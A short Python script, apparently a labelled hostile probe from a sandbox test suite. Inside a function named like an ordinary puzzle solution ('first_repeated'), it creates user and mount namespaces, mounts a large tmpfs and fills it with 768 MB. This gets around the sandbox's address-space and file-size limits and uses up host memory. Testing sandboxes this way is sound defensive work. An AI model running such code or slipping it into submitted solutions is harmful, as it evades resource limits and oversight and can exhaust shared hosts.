"""Hostile: a new user and mount namespace, then a large tmpfs filled with data: host
memory that the address-space limit does not count. Prints what each step answered."""

import ctypes
import os

CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
libc = ctypes.CDLL(None, use_errno=True)


def first_repeated(scans):
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self becomes this process's own
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        print("unshare errno", ctypes.get_errno())
        return -1
    print("unshare ok")
    for name, text in (("setgroups", "deny"), ("uid_map", "0 65534 1"), ("gid_map", "0 65534 1")):
        with open(f"/proc/self/{name}", "w") as handle:  # root inside the new namespace
            handle.write(text)
    os.makedirs("/tmp/big", exist_ok=True)
    if libc.mount(b"none", b"/tmp/big", b"tmpfs", 0, b"size=12g") != 0:
        print("mount errno", ctypes.get_errno())
        return -1
    print("mount ok")
    chunk = b"x" * (4 << 20)  # files under the 8 MB file-size limit
    for index in range(192):  # 768 MB, past the 512 MB address-space limit
        with open(f"/tmp/big/{index}", "wb") as handle:
            handle.write(chunk)
    print("held 768 MB")
    return -1
